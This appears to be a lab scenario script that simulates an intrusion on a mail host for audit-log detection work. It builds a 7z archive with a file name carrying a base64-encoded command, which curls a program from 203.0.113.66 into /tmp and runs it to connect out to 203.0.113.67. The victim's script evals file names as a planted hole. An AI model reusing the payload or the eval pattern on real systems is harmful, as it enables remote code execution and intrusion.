# The payload is the name of a file in an archive; the victim's own script evaluates it (reported in 2025 with RAR archives).
title="File name out of a mailed 7z evaluated by the victim's own listing script"
what="clerk saves scans.7z with mutt, unpacks it in ~/scans and runs her own old script that makes a table of contents with eval. The name of one scan is a command: it decodes a line, which fetches a program to /tmp and starts it; it connects to 203.0.113.67. The host records the commands and what is written at home, not connections nor /tmp."
host=mx1.example.org user=clerk daemons="cron sshd" store=mbox audit_rules=audit-home.rules audit_format=RAW
setup() {
  cc -O1 -o "$base/out/www/g" "$lab/lib/stand-ins/beacon.c"
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/clerk/.muttrc; chown clerk: /home/clerk/.muttrc
  own_file /home/clerk/bin/contents 755 <<'P'
#!/bin/bash
# Table of contents of a folder of scans.
cd "${1:-.}" || exit 1
n=0
for f in *; do
  n=$((n + 1))
  eval "echo \"$n  $f\"" >> ../contents.txt
done
P
  mkdir -p "$base/out/t" && (cd "$base/out/t"
    line=$(printf 'curl -s http://203.0.113.66/g -o /tmp/.X1-lock ;chmod +x /tmp/.X1-lock;(/tmp/.X1-lock 203.0.113.67 9001 &)' | base64 -w0)
    case $line in */*) exit 1 ;; esac
    for i in 1 2 3 4; do make_pdf "Scan_041$i.pdf" "Scan $i"; done
    cp Scan_0412.pdf "Scan_0415.pdf\`{echo,$line}|{base64,-d}|bash\`"
    7z a -bd "$base/out/scans.7z" . >/dev/null)
}
act() {
  small_talk 2
  mail_in --from archive@example.com --to clerk@example.org --source 203.0.113.25 --helo smtp.example.com --subject "Scans of the old contracts" --text "Dear colleague,\n\nthe five scans.\n" --attach "$base/out/scans.7z:application/x-7z-compressed"
  wait_log 'from=<archive@example.com>'; wait_mail clerk 1; sleep 1
  ssh_as clerk <<'L'
ls
%saves mutt
mkdir scans; cd scans
7z x -bd ../scans.7z
ls
%sleep 2
cd
bin/contents scans
%sleep 2
head -3 contents.txt
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the mail arrives'
  file_step save 'mutt open(at)?:write (CREATE|NORMAL) /home/clerk/.*scans.7z' 'mutt saves the archive'
  exec_step unpack '7z.* x -bd ../scans.7z' 'it is unpacked'
  exec_step evaluate 'bin/contents scans' 'her own script goes over the names'
  exec_step injected 'base64 -d' 'a name is run'
  exec_step fetch 'curl -s http://203.0.113.66/g' 'it fetches a program'
  exec_step execute '/tmp/.X1-lock 203' 'and starts it'
}
